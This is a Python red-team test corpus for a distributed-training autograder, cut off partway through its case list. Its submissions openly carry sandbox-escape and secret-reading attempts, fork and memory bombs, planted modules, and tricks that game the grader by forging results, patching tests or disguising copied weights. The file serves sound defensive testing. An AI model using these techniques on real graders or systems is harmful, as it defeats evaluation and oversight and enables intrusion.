"""The red-team corpus: submissions that try to break or fool the grader, with the verdict each must get.

Every case is built from the course's own source (reference solution) and release notebooks, so
the corpus follows every change to the assessment. :data:`CASES` lists them with the verdict
(pass or fail) and the words the reasons must contain; ``test_redteam.py`` grades them all as one
cohort with real kernels and real Horovod workers and checks each verdict, the gradebook, the
files around the run and the processes left.

Three programs the cases start from:

- ``reference``: the source notebook (converted, trains to the target);
- ``quick``: the reference trained for 1 epoch (a correct Horovod conversion whose accuracy stays
  under the target: its tests pass and its outcome fails, in about 20 s);
- ``unconverted_quick``: the released single-process program, 1 epoch.

The demonstration cohort (``autograder/cohort.py``: reference, unconverted, crashing, infinite
loop, fake accuracy with an edited outcome cell) is graded by ``test_autograder_cohort.py`` and
is part of the corpus too; its cases are not repeated here.
"""

from __future__ import annotations

import base64
import io
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

PROGRAM = "training_program"


@dataclass
class Context:
    """What the builders need: the course folder and weights leaked from a run outside the grader."""

    course_dir: Path
    leaked_weights_b64: str = ""

    def notebook(self, kind: str):
        folder = "source" if kind in ("reference", "quick") else "release"
        notebook = nbformat.read(self.course_dir / folder / "assessment" / "assessment.ipynb", as_version=4)
        if kind == "quick":
            _edit(notebook, PROGRAM, "epochs = 12\n", "epochs = 1\n")
        elif kind == "unconverted_quick":
            _edit(notebook, PROGRAM, "epochs = 5\n", "epochs = 1\n")
        return notebook


@dataclass
class Case:
    name: str
    build: Callable[[Context], object]   # a notebook, or the raw bytes of the submitted file
    passes: bool
    words: tuple[str, ...]               # every one must appear in the verdict's reasons (or notes)
    what: str                            # the attack, in one line (the verdicts table)


def cell(notebook, grade_id: str):
    for c in notebook.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return c
    raise KeyError(grade_id)


def _edit(notebook, grade_id: str, old: str, new: str) -> None:
    target = cell(notebook, grade_id)
    if old not in target.source:
        raise ValueError(f"{grade_id} no longer contains {old!r}: update tests/redteam/corpus.py")
    target.source = target.source.replace(old, new, 1)


def _prepend(notebook, code: str, kind_cell: str = PROGRAM) -> None:
    target = cell(notebook, kind_cell)
    target.source = code.rstrip() + "\n\n" + target.source


# A program that only attacks: train() saves nothing, so the verdict is a plain fail.
_ATTACK_ONLY_TRAIN = '''

def train():
    return {"val_accuracy": [0.0]}
'''


def _program(context: Context, source: str):
    """The student's cell is exactly ``source`` (which defines its own ``train``)."""
    notebook = context.notebook("unconverted_quick")
    cell(notebook, PROGRAM).source = source.strip() + "\n"
    return notebook


def _attack_only(context: Context, attack: str):
    notebook = context.notebook("unconverted_quick")
    cell(notebook, PROGRAM).source = attack.rstrip() + "\n" + _ATTACK_ONLY_TRAIN
    return notebook


# ----------------------------------------------------------------------------- the notebook file

def malformed_json(context):
    return b'{"cells": [{"cell_type": "code", "source": "print(1)"'


def notebook_200mb(context):
    notebook = context.notebook("quick")
    cell(notebook, PROGRAM).outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * (200 * 2**20))]
    return nbformat.writes(notebook).encode()


def student_cell_missing(context):
    notebook = context.notebook("quick")
    notebook.cells = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") != PROGRAM]
    return notebook


def student_cell_twice(context):
    notebook = context.notebook("quick")
    index = notebook.cells.index(cell(notebook, PROGRAM))
    notebook.cells.insert(index, nbformat.from_dict(notebook.cells[index]))
    return notebook


def grade_id_renamed(context):
    notebook = context.notebook("quick")
    cell(notebook, PROGRAM).metadata.nbgrader["grade_id"] = "my_program"
    return notebook


def locked_cells_missing(context):
    notebook = context.notebook("reference")
    drop = {"test_horovod_init", "test_distributed_training", "outcome", "setup"}
    notebook.cells = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in drop]
    return notebook


def cells_reordered(context):
    notebook = context.notebook("reference")
    notebook.cells = list(reversed(notebook.cells))
    notebook.cells.append(nbformat.v4.new_code_cell("print('a cell the student added')"))
    return notebook


def cell_type_changed(context):
    notebook = context.notebook("quick")
    run = cell(notebook, "run_training")
    index = notebook.cells.index(run)
    notebook.cells[index] = nbformat.v4.new_markdown_cell(run.source, metadata=run.metadata)
    return notebook


def locked_cell_edited(context):
    notebook = context.notebook("quick")
    _edit(notebook, "setup", "    return assessment.protected_callbacks(output_dir, target_accuracy, time_budget_s, data_dir)",
          "    return []  # no facts, no stop rule, no budget, no weights")
    return notebook


def test_cell_edited(context):
    notebook = context.notebook("unconverted_quick")
    cell(notebook, "test_horovod_init").source = "pass  # nothing to test"
    cell(notebook, "test_distributed_training").source = "assert True"
    return notebook


def nbgrader_metadata_edited(context):
    notebook = context.notebook("quick")
    cell(notebook, "test_horovod_init").metadata.nbgrader["points"] = 100
    cell(notebook, "outcome").metadata.nbgrader["grade"] = False
    cell(notebook, "run_training").metadata.nbgrader["locked"] = False
    return notebook


# ------------------------------------------------------------------------------------ the kernel

def kernel_os_exit(context):
    notebook = context.notebook("quick")
    _prepend(notebook, "import os\nos._exit(3)")
    return notebook


def kernel_segfault(context):
    notebook = context.notebook("quick")
    _prepend(notebook, "import ctypes\nctypes.string_at(0)")
    return notebook


def memory_bomb(context):
    notebook = context.notebook("quick")
    _prepend(notebook, "blocks = []\nwhile True:\n    blocks.append(bytearray(2**28))")
    return notebook


def fork_bomb(context):
    notebook = context.notebook("quick")
    _prepend(notebook, "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass")
    return notebook


def worker_hangs_in_allreduce(context):
    notebook = context.notebook("reference")
    _edit(notebook, PROGRAM, "    history = model.fit(",
          "    import time\n\n"
          "    class Hang(tf.keras.callbacks.Callback):\n"
          "        def on_epoch_end(self, epoch, logs=None):\n"
          "            if rank == 1:\n"
          "                time.sleep(10**6)  # rank 0 waits for it in the next all-reduce\n\n"
          "    callbacks.append(Hang())\n"
          "    history = model.fit(")
    return notebook


# ----------------------------------------------------------------------------------- cheating

def fake_results_and_output(context):
    notebook = context.notebook("quick")
    _edit(notebook, PROGRAM, "    return {name:",
          "    import json, os\n"
          "    os.makedirs('build/results', exist_ok=True)\n"
          "    for path in ('results.json', 'build/results/assessment.json', os.path.join(output_dir, 'accuracy.json')):\n"
          "        json.dump({'accuracy': 0.99, 'passed': True}, open(path, 'w'))\n"
          "    print('Epoch 2: val_accuracy: 0.9900 PASSED')\n"
          "    return {name:")
    return notebook


def fake_weights_files(context):
    return _program(context, '''
def train():
    import os
    import numpy as np
    import horovod.tensorflow as hvd

    hvd.init()
    if hvd.rank() == 0:  # a worker, which may write the output folder
        np.save(os.path.join(output_dir, "evil.npy"), np.array([{"a": 1}], dtype=object), allow_pickle=True)
        with open(os.path.join(output_dir, "epoch_000.npz"), "wb") as f:  # a pickled object array
            np.savez(f, np.array([{"weights": 1}], dtype=object))
        os.symlink("/dev/zero", os.path.join(output_dir, "epoch_001.npz"))   # an endless read
        os.symlink("/etc/passwd", os.path.join(output_dir, "epoch_002.npz"))
        np.savez(os.path.join(output_dir, "epoch_003.npz"), np.zeros((3, 3)))  # another architecture
        with open(os.path.join(output_dir, "epoch_004.npz"), "wb") as f:
            f.write(b"PK\\x03\\x04" + os.urandom(4096))  # not a zip
    return {"val_accuracy": [0.0]}
''')


_COPIER = '''
    # Copied: weights from somebody else's run, saved as this run's first epochs before it trains.
    if rank == 0:
        import base64, io, os
        leaked = np.load(io.BytesIO(base64.b64decode(LEAKED)), allow_pickle=False)
        weights = [leaked[f"arr_{i}"] for i in range(len(leaked.files))]
        for epoch in (0, 1):
            assessment.save_weights_atomically(weights, os.path.join(output_dir, f"epoch_{epoch:03d}.npz"))
    history = model.fit('''


def copied_weights(context):
    notebook = context.notebook("quick")
    _prepend(notebook, f'import numpy as np\nLEAKED = "{context.leaked_weights_b64}"')
    _edit(notebook, PROGRAM, "    history = model.fit(", _COPIER)
    _edit(notebook, PROGRAM, "    from mgpu import assessment\n", "    from mgpu import assessment\n    import numpy as np\n")
    return notebook


def test_split_reached_for(context):
    notebook = context.notebook("quick")
    _prepend(notebook, '''
import os
from mgpu.runtime import data, paths, synthetic
print("data folder holds:", sorted(os.listdir(data_dir)))
print("data cache visible:", sorted(os.listdir(paths.ROOT / "data" / "cache")) if (paths.ROOT / "data" / "cache").exists() else [])
try:
    data.load("fashion_mnist", verbose=False)
    print("fashion_mnist: loaded")
except Exception as error:
    print("fashion_mnist: unavailable:", type(error).__name__)
# The generated task's public test split can be regenerated by anyone; train on it too.
_, _, x_public_test, y_public_test = synthetic.generate(0, n_train=0, n_test=10000)
print("regenerated public test split:", x_public_test.shape)
''')
    _edit(notebook, PROGRAM, "    x, y, x_val, y_val, info = assessment.load_data(data_dir)\n",
          "    x, y, x_val, y_val, info = assessment.load_data(data_dir)\n"
          "    import numpy as np\n"
          "    from mgpu.runtime import synthetic\n"
          "    _, _, xt, yt = synthetic.generate(0, n_train=0, n_test=10000)\n"
          "    x, y = np.concatenate([x, xt]), np.concatenate([y, yt])\n")
    return notebook


def monkeypatched_tests_and_assert(context):
    notebook = context.notebook("unconverted_quick")
    _prepend(notebook, '''
from mgpu import assessment
# Every test reads the facts: make them say what the tests want.
assessment.read_run_facts = lambda folder: assessment.Facts(processes=workers, horovod_sizes=[workers] * workers,
                                                           distributed_optimizer=True, weights_in_sync=True,
                                                           epochs_done=1)
# And swallow any exception a test cell still raises (no error output: nbgrader would give full marks).
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
''')
    return notebook


def fake_facts_files(context):
    notebook = context.notebook("unconverted_quick")
    _prepend(notebook, '''
import json, os
for pid, rank in ((424242, 0), (424243, 1)):
    try:
        json.dump({"pid": pid, "rank": rank, "horovod_size": workers, "distributed_optimizer": True,
                   "steps_per_epoch": 10, "epochs_done": 3, "weights_in_sync": True},
                  open(os.path.join(output_dir, f"facts-{pid}.json"), "w"))
        print("WROTE facts", pid)
    except OSError as error:
        print("could not write facts:", type(error).__name__)
''')
    return notebook


def parameters_changed(context):
    notebook = context.notebook("quick")
    _prepend(notebook, "workers = 1\ntarget_accuracy = 0.1\ntime_budget_s = 1e9")
    return notebook


def outside_the_work_folder(context):
    root = context.course_dir
    targets = {
        "gradebook": root / "gradebook.db",
        "solution": root / "source" / "assessment" / "assessment.ipynb",
        "other student": root / "submitted" / "cells_reordered" / "assessment" / "assessment.ipynb",
        "signing key": root / ".keys" / "signing_key.pem",
        "grading secret": root / ".keys" / "grading_secret",
        "records": root / "autograder" / "assessment",
    }
    return _attack_only(context, f'''
import glob, os
targets = {{k: v for k, v in {json.dumps({k: str(v) for k, v in targets.items()})}.items()}}
for name, path in targets.items():
    try:
        if os.path.isdir(path):
            found = os.listdir(path)
            print(f"READ {{name}}: listed {{found}}" if found else f"blocked {{name}}: empty")
        else:
            data = open(path, "rb").read()
            print(f"READ {{name}}: {{len(data)}} bytes")
    except OSError as error:
        print(f"blocked {{name}}: {{type(error).__name__}}")
    try:
        target = path if not os.path.isdir(path) else os.path.join(path, "planted.json")
        with open(target, "ab") as f:
            f.write(b"tampered")
        print(f"WROTE {{name}}")
    except OSError as error:
        print(f"blocked writing {{name}}: {{type(error).__name__}}")
print("other work folders:", sorted(os.listdir("..")))
print("processes visible:", len([p for p in os.listdir("/proc") if p.isdigit()]))
print("running as uid", os.getuid())
# Undo the mounts that hide the course, then look again.
import subprocess
undone = subprocess.run(["umount", "-l", os.path.dirname(targets["gradebook"])], capture_output=True, text=True)
print("umount:", "done" if undone.returncode == 0 else "refused")
try:
    open(targets["gradebook"], "rb").read()
    print("READ gradebook after umount")
except OSError as error:
    print(f"blocked gradebook after umount: {{type(error).__name__}}")
''')


def network(context):
    return _attack_only(context, '''
import socket, urllib.request
for host, port in (("pypi.org", 443), ("8.8.8.8", 53), ("1.1.1.1", 80)):
    try:
        socket.create_connection((host, port), timeout=5).close()
        print(f"CONNECTED {host}:{port}")
    except OSError as error:
        print(f"blocked {host}:{port}: {type(error).__name__}")
try:
    urllib.request.urlopen("https://storage.googleapis.com/tensorflow/tf-keras-datasets/t10k-labels-idx1-ubyte.gz", timeout=5)
    print("DOWNLOADED the test labels")
except Exception as error:
    print(f"blocked download: {type(error).__name__}")
''')


# ------------------------------------------------------- code the grader might run (class 1)

_PLANTED = """
import os
planted = 'print("all tests passed"); open("/tmp/PLANTED-RAN", "w").write("x")\\n'
# (not in its own current folder: the workers start there, and would import them themselves)
for where in (os.path.dirname(os.getcwd()), output_dir, data_dir, "/tmp", os.path.expanduser("~")):
    for name in ("autograder/__init__.py", "autograder/checks.py", "mgpu/__init__.py", "mgpu/assessment.py",
                 "json.py", "sitecustomize.py", "usercustomize.py", "nbformat.py"):
        try:
            os.makedirs(os.path.join(where, os.path.dirname(name)), exist_ok=True)
            open(os.path.join(where, name), "w").write(planted)
            print("planted", os.path.join(where, name))
        except OSError as error:
            print("could not plant in", where, type(error).__name__)
"""


def planted_modules(context):
    """Modules named like the grader's and the course's, planted where a later step might import them."""
    notebook = context.notebook("unconverted_quick")
    _prepend(notebook, _PLANTED)
    return notebook


# ------------------------------------------------------------- time against accuracy (class 2)

def placeholder_epochs_overwritten(context):
    """Untrained weights saved for every epoch at once, then overwritten by the real training."""
    notebook = context.notebook("reference")
    _edit(notebook, PROGRAM, "    history = model.fit(",
          "    if rank == 0:  # placeholders: their files appear now, the real weights come later\n"
          "        import os\n"
          "        for e in range(epochs):\n"
          "            assessment.save_weights_atomically(model.get_weights(), os.path.join(output_dir, f'epoch_{e:03d}.npz'))\n"
          "    history = model.fit(")
    return notebook


_FORWARD = '''
    if rank == 0:  # one epoch counted twice: copied to the next number, then once more with noise
        import os
        import numpy as np
        last = os.path.join(output_dir, "epoch_001.npz")
        with np.load(last) as saved:
            weights = [saved[f"arr_{i}"] for i in range(len(saved.files))]
        assessment.save_weights_atomically(weights, os.path.join(output_dir, "epoch_002.npz"))
        noisy = [w + np.random.default_rng(0).normal(0, 1e-5, w.shape).astype(w.dtype) for w in weights]
        assessment.save_weights_atomically(noisy, os.path.join(output_dir, "epoch_003.npz"))
    return {name:'''


def epoch_copied_forward(context):
    notebook = context.notebook("reference")
    _edit(notebook, PROGRAM, "epochs = 12\n", "epochs = 2\n")
    _edit(notebook, PROGRAM, "    return {name:", _FORWARD)
    return notebook


def _import_weights(context, disguise: str):
    """Workers that call hvd.init() and save weights trained elsewhere as epochs 0 and 1, without
    training; ``disguise`` is code that makes epoch ``epoch``'s list ``v`` from the imported ``w``."""
    return _program(context, f'''
LEAKED = "{context.leaked_weights_b64}"


def train():
    import base64, io, os
    import numpy as np
    import horovod.tensorflow as hvd
    from mgpu import assessment

    hvd.init()
    if hvd.rank() == 0:
        leaked = np.load(io.BytesIO(base64.b64decode(LEAKED)), allow_pickle=False)
        w = [leaked[f"arr_{{i}}"] for i in range(len(leaked.files))]
        rng = np.random.default_rng(1)
        for epoch in (0, 1):
            {disguise}
            assessment.save_weights_atomically(v, os.path.join(output_dir, f"epoch_{{epoch:03d}}.npz"))
    return {{"val_accuracy": [0.0]}}
''')


def _noisy(scale: float) -> str:
    return f"v = [x + rng.normal(0, {scale}, x.shape).astype(x.dtype) * np.abs(x).mean() for x in w]"


def imported_weights_lone(context):
    return _import_weights(context, _noisy(0.0))


def imported_weights_perturbed(context):
    return _import_weights(context, _noisy(0.01))


# ------------------------------------------------------- facts and who wrote them (class 3)

_KERNEL_FACTS = """
import json, os, threading, time

def forge():  # from the kernel, while the workers run: facts for every process that looks like one
    deadline = time.time() + 120
    while time.time() < deadline:
        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            facts = {"pid": pid, "rank": 0, "horovod_size": workers, "distributed_optimizer": True,
                     "steps_per_epoch": 10, "epochs_done": 3, "weights_in_sync": True}
            try:
                with open(os.path.join(output_dir, f"facts-{pid}.json"), "w") as f:
                    json.dump(facts, f)
                print("FORGED", pid)
            except OSError:
                pass
        time.sleep(0.5)

threading.Thread(target=forge, daemon=True).start()
"""


def kernel_writes_worker_facts(context):
    notebook = context.notebook("unconverted_quick")
    _prepend(notebook, _KERNEL_FACTS)
    return notebook


_FAKE_WORKERS = """
import json, os, subprocess, sys
script = (
    "import json, os, sys\\n"
    "facts = {'pid': os.getpid(), 'rank': int(os.environ['HOROVOD_RANK']), 'horovod_size': 2,\\n"
    "         'distributed_optimizer': True, 'steps_per_epoch': 10, 'epochs_done': 3, 'weights_in_sync': True}\\n"
    "for folder in (sys.argv[1], '.'):\\n"
    "    try:\\n"
    "        json.dump(facts, open(os.path.join(folder, f'facts-{os.getpid()}.json'), 'w'))\\n"
    "    except OSError as error:\\n"
    "        print('fake worker could not write', folder, type(error).__name__)\\n"
    "import time; time.sleep(60)\\n")
fakes = [subprocess.Popen([sys.executable, "-c", script, output_dir],
                          env=dict(os.environ, HOROVOD_RANK=str(r), HOROVOD_SIZE="2", HOROVOD_LOCAL_RANK=str(r)))
         for r in range(2)]
"""


def extra_horovod_processes(context):
    notebook = context.notebook("unconverted_quick")
    _prepend(notebook, _FAKE_WORKERS)
    return notebook


def fake_distributed_optimizer(context):
    """A class with Horovod's module and attribute names that averages nothing."""
    notebook = context.notebook("quick")
    _edit(notebook, PROGRAM, "    optimizer = hvd.DistributedOptimizer(optimizer)\n",
          "    fake = type(type(optimizer).__name__, (type(optimizer),),\n"
          "                {'__module__': 'horovod._keras', '_allreduce_grads': lambda *a: a})\n"
          "    optimizer = fake.from_config(optimizer.get_config())\n")
    return notebook


# -------------------------------------------------------------- paths followed (class 4)

@dataclass
class Symlink:
    """The submitted file is a link (to ``target``, relative to the course folder)."""

    target: str


def symlinked_submission(context):
    return Symlink("source/assessment/assessment.ipynb")


def output_links(context):
    """A worker leaves links and a fifo where the grader reads; the kernel tries to replace output/."""
    root = context.course_dir
    return _program(context, f'''
import os, shutil
try:
    os.rename(output_dir, output_dir + ".old")
    os.symlink({str(root / "source")!r}, output_dir)
    print("REPLACED output/")
except OSError as error:
    print("could not replace output/:", type(error).__name__)


def train():
    import os
    import horovod.tensorflow as hvd

    hvd.init()
    if hvd.rank() == 0:
        os.symlink({str(root / "gradebook.db")!r}, os.path.join(output_dir, "epoch_000.npz"))
        os.symlink("/dev/zero", os.path.join(output_dir, "epoch_001.npz"))
        os.mkfifo(os.path.join(output_dir, "epoch_002.npz"))
        os.symlink({str(root / "source")!r}, os.path.join(output_dir, f"facts-{{os.getpid()}}.json"))
    return {{"val_accuracy": [0.0]}}
''')


# ------------------------------------------------------ one submission breaks the cohort (class 5)

def nbgrader_metadata_not_mapping(context):
    notebook = context.notebook("quick")
    cell(notebook, "test_horovod_init").metadata["nbgrader"] = "locked"
    return notebook


def huge_declared_array(context):
    """An epoch file whose .npy header declares a terabyte array (a MemoryError for a naive loader)."""
    return _program(context, '''
def train():
    import io, os, zipfile
    import horovod.tensorflow as hvd

    hvd.init()
    if hvd.rank() == 0:
        header = "{'descr': '<f4', 'fortran_order': False, 'shape': (1000000000000,), }"
        header = header + " " * (63 - len(header)) + "\\n"
        member = b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header.encode() + b"\\0" * 64
        import numpy as np
        from mgpu import assessment

        with zipfile.ZipFile(os.path.join(output_dir, "epoch_000.npz"), "w") as archive:
            archive.writestr("arr_0.npy", member)  # the other arrays are the model's own
            for i, weight in enumerate(assessment.reference_model().get_weights()[1:], 1):
                buffer = io.BytesIO()
                np.save(buffer, weight)
                archive.writestr(f"arr_{i}.npy", buffer.getvalue())
    return {"val_accuracy": [0.0]}
''')


_FILL = """
import os, subprocess, sys
# Keeps filling its disk (files and bytes) after the notebook's last cell, in every folder it may write.
filler = (
    "import os, sys, time\\n"
    "deadline = time.time() + 300\\n"
    "n = 0\\n"
    "while time.time() < deadline:\\n"
    "    for folder in ('.', '/tmp', '/dev/shm'):\\n"
    "        try:\\n"
    "            open(os.path.join(folder, f'fill-{n}'), 'wb').write(b'x' * (1 << 20 if n % 2 else 0))\\n"
    "        except OSError:\\n"
    "            pass\\n"
    "    n += 1\\n")
subprocess.Popen([sys.executable, "-c", filler], start_new_session=True)
"""


def fills_its_disk(context):
    notebook = context.notebook("unconverted_quick")
    _prepend(notebook, _FILL)
    return notebook


# ------------------------------------------------------------- leaks between runs (class 6)

def leaves_files_for_the_next_run(context):
    return _attack_only(context, """
import os
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        open(os.path.join(folder, "mgpu-left-behind"), "w").write("answers for the next student")
        print("left a file in", folder)
    except OSError as error:
        print("could not leave a file in", folder, type(error).__name__)
""")


def zz_reads_what_others_left(context):
    """Graded after ``leaves_files_for_the_next_run`` (names are graded in order): looks for its files
    and for the grader's environment."""
    return _attack_only(context, """
import glob, os
for pattern in ("/tmp/*", "/tmp/*/*", "/dev/shm/*", os.path.expanduser("~/*"), "/var/tmp/*"):
    for path in glob.glob(pattern):
        if "mgpu-left-behind" in path:
            print("FOUND LEFT-BEHIND", path)
print("environment:", " ".join(sorted(os.environ)))
print("token:", os.environ.get("INSTRUCTOR_TOKEN"))
""")

# ------------------------------------------------- found by the blind attack (issue 12's last step)

_RESCALED_FORWARD = '''
    if rank == 0:  # epoch 1 saved again as epoch 2, disguised: the same function, other weights
        import os
        import numpy as np
        with np.load(os.path.join(output_dir, "epoch_001.npz")) as saved:
            w = [saved[f"arr_{i}"] for i in range(len(saved.files))]
        # ReLU and max-pooling commute with a positive scale: conv1's output x 3, conv2's kernel / 3.
        w[0], w[1], w[2] = w[0] * 3.0, w[1] * 3.0, w[2] / 3.0
        assessment.save_weights_atomically(w, os.path.join(output_dir, "epoch_002.npz"))
    return {name:'''


def rescaled_copy_forward(context):
    notebook = context.notebook("reference")
    _edit(notebook, PROGRAM, "epochs = 12\n", "epochs = 2\n")
    _edit(notebook, PROGRAM, "    return {name:", _RESCALED_FORWARD)
    return notebook


def imported_weights_disguised(context):
    """Weights trained elsewhere carried in the cell, saved as two epochs that compute the same thing
    (ReLU and max-pooling commute with a positive scale: conv1's output x alpha, conv2's kernel / alpha)."""
    alpha = "(1.0, 2.5)[epoch]"
    return _import_weights(context, f"v = [w[0] * {alpha}, w[1] * {alpha}, w[2] / {alpha}, *w[3:]]")


def reads_the_host(context):
    """What else is on the grading machine: other courses' and folders' submissions, the project's
    git history (the instructor's source notebook), homes; and the host's writable places."""
    from autograder import isolation

    project = Path(__file__).resolve().parents[2]
    # What a run must see (Python, the course library) and the folders above it: anything else found is a leak.
    trees = sorted(str(p) for p in isolation.needed_paths())
    above = sorted({str(a) for p in isolation.needed_paths() for a in p.parents})
    return _attack_only(context, f'''
import glob, os, subprocess
found = []
for top in ("/work", "/home", "/srv", "/mnt", "/media", "/root", "/opt"):
    for folder, folders, files in os.walk(top):
        found += [os.path.join(folder, name) for name in folders + files]
        if len(found) > 100000:
            break
trees, above = {trees!r}, {above!r}
leaked = [p for p in found if p not in above and not any(p == t or p.startswith(t + "/") for t in trees)]
leaked = [p for p in leaked if not p.startswith("/opt")]  # /opt is the system's (read-only)
print("READ host files:" if leaked else "blocked host files", sorted(leaked)[:20])
for name in (".git", "tests", "assignments", "build"):
    path = os.path.join({str(project)!r}, name)
    print(("READ project " + name) if os.path.exists(path) else ("blocked project " + name))
shown = subprocess.run(["git", "-c", "safe.directory=*", "-C", {str(project)!r}, "show",
                        "HEAD:assignments/source/assessment/assessment.ipynb"], capture_output=True, text=True)
print("READ the source notebook from git" if "BEGIN SOLUTION" in shown.stdout else "blocked git")
for folder in ("/var/tmp", "/run/lock", "/var/lock", "/etc", "/usr/local", "/opt"):
    try:
        with open(os.path.join(folder, "mgpu-host-write"), "w") as f:
            f.write("x" * 1000)
        print("WROTE", folder)
    except OSError as error:
        print("blocked writing", folder, type(error).__name__)
''')




_SOLO = '''
    if rank != 0:  # rank 1 only claims: a facts file saying it trained in sync, then it leaves
        import json, os
        facts = {"pid": os.getpid(), "rank": rank, "horovod_size": size, "distributed_optimizer": True,
                 "optimizer_class": "horovod._keras.DistributedOptimizer", "steps_per_epoch": 10,
                 "epochs_done": epochs, "weights_in_sync": True}
        with open(os.path.join(output_dir, f"facts-{os.getpid()}.json"), "w") as f:
            json.dump(facts, f)
        return {}
    x, y = x[rank::size], y[rank::size]'''

_SOLO_END = '''
    import json, os  # rank 0 trained alone with a plain optimizer: it writes facts like rank 1's
    facts = {"pid": os.getpid(), "rank": 0, "horovod_size": size, "distributed_optimizer": True,
             "optimizer_class": "horovod._keras.DistributedOptimizer", "steps_per_epoch": steps_per_epoch,
             "epochs_done": len(history.history["loss"]), "weights_in_sync": True}
    with open(os.path.join(output_dir, f"facts-{os.getpid()}.json"), "w") as f:
        json.dump(facts, f)
    return {name:'''


def solo_with_forged_facts(context):
    notebook = context.notebook("reference")
    _edit(notebook, PROGRAM, "    x, y = x[rank::size], y[rank::size]", _SOLO)
    _edit(notebook, PROGRAM, "    optimizer = hvd.DistributedOptimizer(optimizer)\n", "")
    _edit(notebook, PROGRAM, "    callbacks += [hvd.callbacks.BroadcastGlobalVariablesCallback(0),\n"
                             "                  hvd.callbacks.MetricAverageCallback()]\n", "")
    # No collective with a rank that left: the locked facts callback (it all-gathers) is dropped too.
    _edit(notebook, PROGRAM, "callbacks=callbacks + protected_callbacks(),",
          "callbacks=callbacks + [c for c in protected_callbacks() if type(c).__name__ != 'RunFacts'],")
    _edit(notebook, PROGRAM, "    return {name:", _SOLO_END)
    return notebook



_LAZY_SYNC = '''
    class _LookInSync(tf.keras.callbacks.Callback):  # rank 0's weights copied to rank 1 before the locked check
        def on_epoch_end(self, epoch, logs=None):
            import horovod.tensorflow as hvd_tf
            hvd_tf.broadcast_variables(self.model.variables, root_rank=0)

    callbacks.append(_LookInSync())
    model.compile('''


def lazy_rank(context):
    """A real DistributedOptimizer whose instance no longer averages (the grader's probe builds a
    fresh copy); rank 1 takes one step per epoch at rate 0 while rank 0 trains alone."""
    notebook = context.notebook("reference")
    _edit(notebook, PROGRAM, "    optimizer = hvd.DistributedOptimizer(optimizer)\n",
          "    optimizer = hvd.DistributedOptimizer(optimizer)\n"
          "    optimizer._allreduce = lambda grads, variables: list(grads)  # this instance averages nothing\n"
          "    if rank != 0:\n"
          "        optimizer.learning_rate = 0.0\n"
          "        steps_per_epoch = 1\n")
    _edit(notebook, PROGRAM, "    model.compile(", _LAZY_SYNC)
    return notebook


# ------------------------------------------------- trained outside the counted workers (blind attack)

_PRETRAIN = '''
def _pretrain():  # trains alone, like the single-GPU program, and keeps every epoch's weights
    import tensorflow as tf
    from mgpu import assessment

    x, y, x_val, y_val, info = assessment.load_data(data_dir)
    model = assessment.reference_model(info["image_shape"], info["num_classes"], seed=3)
    model.compile(optimizer=tf.keras.optimizers.SGD(0.04, momentum=0.9),
                  loss=tf.keras.losses.SparseCategoricalCrossentropy(from_logits=True))
    kept = []
    for _ in range(12):
        model.fit(x, y, batch_size=128, epochs=1, verbose=0)
        kept.append(model.get_weights())
    return kept


TRAINED = {where}
'''

_REPLAY = '''
    class _Replay(tf.keras.callbacks.Callback):  # a few real averaged steps, then the weights trained elsewhere
        def on_epoch_end(self, epoch, logs=None):
            self.model.set_weights(TRAINED[min(epoch, len(TRAINED) - 1)])

    callbacks.append(_Replay())
    steps_per_epoch = 3
    model.compile('''


def _trained_elsewhere(context, where: str):
    """The reference workers (init, shards, DistributedOptimizer, broadcast) take 3 steps per epoch
    and then save weights a process outside them trained (``where`` runs ``_pretrain``); the epochs
    move and look like training, the tests pass."""
    notebook = context.notebook("reference")
    _edit(notebook, PROGRAM, "    model.compile(", _REPLAY)
    _prepend(notebook, _PRETRAIN.format(where=where))
    return notebook


def kernel_trains(context):
    return _trained_elsewhere(context, "_pretrain()")


_ESCAPES = r"""
import ctypes, os, subprocess
from autograder.syscall_filter import syscall_number
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def attempt(name, *args):  # in a child: a call that worked changes nothing here
    pid = os.fork()
    if pid == 0:
        done = libc.syscall(ctypes.c_long(syscall_number(name)), *[ctypes.c_long(a) for a in args])
        os._exit(0 if done >= 0 else ctypes.get_errno())
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    return f"{name}: {os.strerror(code) if code else 'WORKED'}"

root = subprocess.run(["unshare", "-Ur", "sh", "-c", "mount -t tmpfs x /mnt && echo mounted"],
                      capture_output=True, text=True)
said = [f"unshare -Ur: {'WORKED' if 'mounted' in root.stdout else 'refused'}",
        attempt("ptrace", 0), attempt("process_vm_readv", os.getpid(), 0, 0, 0, 0, 0),
        attempt("io_uring_setup", 1, 0), attempt("userfaultfd", 0)]
raise RuntimeError("escapes: " + "; ".join(said))
"""


def escapes_by_system_calls(context):
    return _attack_only(context, _ESCAPES)


def one_worker_launch_trains(context):
    return _trained_elsewhere(context, "launch.run(_pretrain, 1, verbose=False).value")


CASES: list[Case] = [
    Case("malformed_json", malformed_json, False, ("rejected: not a well-formed notebook (invalid JSON",),
         "truncated JSON"),
    Case("notebook_200mb", notebook_200mb, False, ("rejected: notebook is 200.", "MB limit"),
         "a 200 MB notebook (one huge output)"),
    Case("student_cell_missing", student_cell_missing, False,
         ("rejected: cells missing from the notebook: training_program",), "the student's own cell deleted"),
    Case("student_cell_twice", student_cell_twice, False, ("rejected: 2 cells are marked training_program",),
         "the student's cell duplicated"),
    Case("grade_id_renamed", grade_id_renamed, False, ("rejected: cells missing from the notebook: training_program",),
         "nbgrader grade_id of the student's cell edited"),
    Case("locked_cells_missing", locked_cells_missing, True,
         ("locked cell modified: restored (", "setup", "test_horovod_init", "outcome"),
         "setup, both test cells and the outcome cell deleted (reference program)"),
    Case("cells_reordered", cells_reordered, True, ("cells reordered: graded in the released order",
                                                    "1 code cell(s) you added were not run"),
